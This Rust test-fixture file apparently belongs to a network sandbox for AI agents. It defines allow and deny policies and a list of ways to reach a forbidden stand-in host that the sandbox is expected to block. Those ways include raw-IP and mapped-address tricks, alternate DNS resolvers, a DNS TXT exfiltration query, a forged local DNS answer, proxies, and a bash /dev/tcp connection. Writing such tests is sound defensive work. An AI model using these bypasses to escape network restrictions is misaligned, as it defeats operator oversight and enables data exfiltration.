//! Policies, the ways to a host that they do not permit, and programs that reach what they do.

/// What an agent with names may reach.
pub const POLICY: &str = "\
version: 1
files: {default: allow}
exec: {default: allow}
network:
  default: deny
  unix: deny
  allow:
    - {id: good, name: [good.example.com, alias.example.com, short.example.com, forged.example.com], port: 8080}
    - {id: wild, name: \"*.wild.example.com\", port: 8080}
    - {id: traps, name: [toevil.example.com, rebind.example.com, metadata.example.com], port: 8080}
  deny:
    - {id: no-evil, name: evil.example.net}
";

/// Another agent, that may reach what the first one may not.
pub const OTHER: &str = "\
version: 1
files: {default: allow}
exec: {default: allow}
network: {default: deny, allow: [{id: evil, name: evil.example.net, port: 8080}]}
";

/// What the scripts have.
pub const PRELUDE: &str = r"
import socket, struct, sys, time, os, ctypes
def get(to, port=8080, family=0):
    s = socket.socket(family or socket.AF_INET) if family else None
    if s: s.settimeout(5); s.connect((to, port))
    else: s = socket.create_connection((to, port), 5)
    s.sendall(b'GET / HTTP/1.0\r\n\r\n')
    print(s.recv(4096).split(b'\r\n\r\n')[-1].decode().strip())
def ask(server, name, tcp=False, kind=1, port=53, connect=True):
    raw = name if isinstance(name, bytes) else name.encode()
    q = struct.pack('>6H', 4711, 256, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l for l in raw.split(b'.')) + b'\0' + struct.pack('>2H', kind, 1)
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5)
    if tcp:
        s.connect((server, port)); s.sendall(struct.pack('>H', len(q)) + q)
        n = struct.unpack('>H', s.recv(2))[0]; d = s.recv(n)
    elif connect:
        s.connect((server, port)); s.send(q); d = s.recv(4096)
    else:
        s.sendto(q, (server, port)); d, came = s.recvfrom(4096)
        assert came[0] == server and came[1] == port, came
    if d[3] & 15: print('code', d[3] & 15); return None
    if kind != 1: print(d[-7:].decode('latin1')); return None
    return socket.inet_ntoa(d[-4:]) if struct.unpack('>H', d[6:8])[0] else None
def by(*a, **k):
    found = ask(*a, **k)
    if found: get(found)
";

/// What it is called, what is run after the prelude, and the record (operation, target; empty for none to be looked for).
pub type Way = (&'static str, &'static str, &'static str, &'static str);

/// Ways to a host that no rule permits.
pub const WAYS: &[Way] = &[
    (
        "by name",
        "get('evil.example.net')",
        "resolve",
        "evil.example.net",
    ),
    (
        "by address",
        "get('93.184.216.66')",
        "connect",
        "93.184.216.66:8080",
    ),
    (
        "by address of IPv6",
        "get('2606:2800::66')",
        "connect",
        "[2606:2800::66]:8080",
    ),
    (
        "by mapped address",
        "get('::ffff:93.184.216.66', family=socket.AF_INET6)",
        "connect",
        "93.184.216.66:8080",
    ),
    (
        "by a number",
        "get('1572395074')",
        "connect",
        "93.184.216.66:8080",
    ),
    (
        "in capitals",
        "get('EVIL.Example.NET')",
        "resolve",
        "evil.example.net",
    ),
    (
        "with a dot at the end",
        "get('evil.example.net.')",
        "resolve",
        "evil.example.net",
    ),
    (
        "by a search domain",
        "get('evil')",
        "resolve",
        "evil.example.net",
    ),
    (
        "in another script",
        "get('b\\u00fccher.example.net'.encode('idna').decode())",
        "resolve",
        "xn--bcher-kva.example.net",
    ),
    (
        "by the first label of a wildcard's name twice",
        "get('deep.host.wild.example.com')",
        "resolve",
        "deep.host.wild.example.com",
    ),
    (
        "asked of another resolver",
        "by('93.184.216.88', 'evil.example.net')",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver without connecting",
        "by('93.184.216.88', 'evil.example.net', connect=False)",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver by TCP",
        "by('93.184.216.88', 'evil.example.net', tcp=True)",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver by IPv6",
        "by('2606:2800::53', 'evil.example.net')",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver by IPv6 and TCP",
        "by('2606:2800::53', 'evil.example.net', tcp=True)",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver by a mapped address",
        "by('::ffff:93.184.216.88', 'evil.example.net')",
        "resolve",
        "evil.example.net",
    ),
    (
        "asked of another resolver at another port",
        "by('93.184.216.88', 'evil.example.net', port=5353)",
        "connect",
        "93.184.216.88:5353",
    ),
    (
        "asked of another resolver at another port by TCP",
        "by('93.184.216.88', 'evil.example.net', port=5353, tcp=True)",
        "connect",
        "93.184.216.88:5353",
    ),
    (
        "as text to be carried off",
        "ask('93.184.216.88', 'secret.evil.example.net', kind=16)",
        "resolve",
        "secret.evil.example.net",
    ),
    (
        "from /etc/hosts",
        "get('hosts.example.org')",
        "connect",
        "93.184.216.66:8080",
    ),
    (
        "by an alias of a permitted name",
        "get('toevil.example.com')",
        "resolve",
        "toevil.example.com",
    ),
    (
        "by a permitted name that leads to this host",
        "get('rebind.example.com')",
        "resolve",
        "rebind.example.com",
    ),
    (
        "by a permitted name that leads to the metadata",
        "get('metadata.example.com')",
        "resolve",
        "metadata.example.com",
    ),
    (
        "by a permitted name to another port",
        "get('good.example.com', 3128)",
        "connect",
        "93.184.216.1:3128",
    ),
    (
        "by a proxy on loopback",
        "get('127.0.0.1', 3128)",
        "connect",
        "127.0.0.1:3128",
    ),
    (
        "by fast open",
        "s = socket.socket(); s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', 0x20000000, ('93.184.216.66', 8080)); print(s.recv(999)[-8:].decode())",
        "",
        "",
    ),
    (
        "by UDP",
        "s = socket.socket(type=2); s.settimeout(5); s.connect(('93.184.216.66', 8080)); s.send(b'x'); print(s.recv(99).decode())",
        "connect",
        "93.184.216.66:8080",
    ),
    (
        "by UDP without connecting",
        "s = socket.socket(type=2); s.settimeout(5); s.sendto(b'x', ('93.184.216.66', 8080)); print(s.recv(99).decode())",
        "send",
        "93.184.216.66:8080",
    ),
    (
        "by UDP after a permitted peer",
        "s = socket.socket(type=2); s.settimeout(5); s.connect((socket.gethostbyname('good.example.com'), 8080)); s.sendto(b'x', ('93.184.216.66', 8080)); time.sleep(1)",
        "send",
        "93.184.216.66:8080",
    ),
    (
        "by Multipath TCP",
        "s = socket.socket(2, 1, 262); s.settimeout(5); s.connect(('93.184.216.66', 8080)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(999)[-8:].decode())",
        "",
        "",
    ),
    (
        "by an answer of its own making",
        "import threading\na = socket.socket(type=2); a.bind(('127.0.0.1', 0))\ndef f():\n d, c = a.recvfrom(999); a.sendto(d[:2] + b'\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0' + d[12:] + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4' + socket.inet_aton('93.184.216.66'), c)\nthreading.Thread(target=f, daemon=True).start()\ntry: by('127.0.0.1', 'evil.example.net', port=a.getsockname()[1])\nexcept OSError: get('93.184.216.66')",
        "",
        "",
    ),
];

/// Ways by real programs.
pub const PROGRAMS: &[(&str, &[&str])] = &[
    (
        "curl",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "10",
            "http://evil.example.net:8080/",
        ],
    ),
    (
        "curl that is told the address",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "10",
            "--resolve",
            "evil.example.net:8080:93.184.216.66",
            "http://evil.example.net:8080/",
        ],
    ),
    (
        "curl with a permitted name and another address",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "10",
            "--resolve",
            "good.example.com:8080:93.184.216.66",
            "http://good.example.com:8080/",
        ],
    ),
    (
        "curl by a proxy",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "10",
            "-x",
            "http://127.0.0.1:3128",
            "http://evil.example.net:8080/",
        ],
    ),
    (
        "bash",
        &[
            "/usr/bin/bash",
            "-c",
            "exec 3<>/dev/tcp/evil.example.net/8080; echo GET / >&3; cat <&3",
        ],
    ),
    (
        "urllib",
        &[
            "/usr/bin/python3",
            "-c",
            "import urllib.request as u; print(u.urlopen('http://evil.example.net:8080', timeout=10).read().decode())",
        ],
    ),
];

/// Programs that reach what they may.
pub const GOOD: &[(&str, &[&str])] = &[
    (
        "curl",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "20",
            "http://good.example.com:8080/",
        ],
    ),
    (
        "curl to an alias",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "20",
            "http://alias.example.com:8080/",
        ],
    ),
    (
        "curl to a name of a wildcard",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "20",
            "http://host.wild.example.com:8080/",
        ],
    ),
    (
        "curl by IPv6",
        &[
            "/usr/bin/curl",
            "-6",
            "-sS",
            "--max-time",
            "20",
            "http://good.example.com:8080/",
        ],
    ),
    (
        "curl to a name whose answers are forged",
        &[
            "/usr/bin/curl",
            "-sS",
            "--max-time",
            "20",
            "http://forged.example.com:8080/",
        ],
    ),
    (
        "bash",
        &[
            "/usr/bin/bash",
            "-c",
            "exec 3<>/dev/tcp/good.example.com/8080; echo GET / >&3; cat <&3",
        ],
    ),
    (
        "urllib",
        &[
            "/usr/bin/python3",
            "-c",
            "import urllib.request as u; print(u.urlopen('http://good.example.com:8080', timeout=20).read().decode())",
        ],
    ),
];
